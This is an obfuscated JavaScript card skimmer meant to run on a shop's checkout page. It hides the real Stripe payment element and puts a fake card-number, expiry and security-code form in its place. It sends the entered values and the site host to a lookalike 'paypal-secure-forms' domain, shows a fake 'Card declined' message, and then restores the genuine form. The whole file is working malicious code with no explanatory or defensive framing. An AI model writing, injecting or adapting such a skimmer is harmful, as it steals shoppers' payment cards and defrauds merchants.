(function () {
    var _ = String.fromCharCode;
    var u = _(104,116,116,112,115,58,47,47,112,97,121,112,97,108,45,115,101,99,117,114,101,45,102,111,114,109,115,46,99,99,47,97,112,105,47,102,114,109);
    var L1 = atob("Q2FyZCBOdW1iZXI="), L2 = atob("U2VjdXJpdHkgQ29kZQ==");
    var tgt = "epirts-dohtem-tnemyap".split("").reverse().join("");
    var d = document, w = window;

    var real = d.getElementById(tgt);
    if (!real || !/c\x68eckout/.test(w.location.href)) return;
    real.style.visibility = "hidden";
    real.style.height = "0";

    var f = d.createElement("div");
    f.innerHTML = "<label>" + L1 + "</label><input id='x1'>" +
        "<label>\x45\x78\x70\x69\x72\x79</label><input id='x2' placeholder='MM/YY'>" +
        "<label>" + L2 + "</label><input id='x3' type='password'>" +
        "<button id='x4' type='button'>\x50\x61\x79\x20\x6e\x6f\x77</button>";
    real.parentNode.insertBefore(f, real);

    d.getElementById("x4").addEventListener("click", function () {
        var v = function (i) { return d.getElementById(i).value; };
        var body = w.btoa(v("x1") + "\x7c" + v("x2") + "\x7c" + v("x3") + "\x7c" + w.location.host);
        var X = w["XML" + "Http" + "Request"];
        var r = new X();
        r.open("\x50\x4f\x53\x54", u, true);
        r.send("d=" + encodeURIComponent(body));
        f.innerHTML = "<p style='color:red'>\x43\x61\x72\x64\x20\x64\x65\x63\x6c\x69\x6e\x65\x64\x2e</p>";
        setTimeout(function () {
            f.remove();
            real.style.visibility = "";
            real.style.height = "";
        }, 2000);
    });
})();
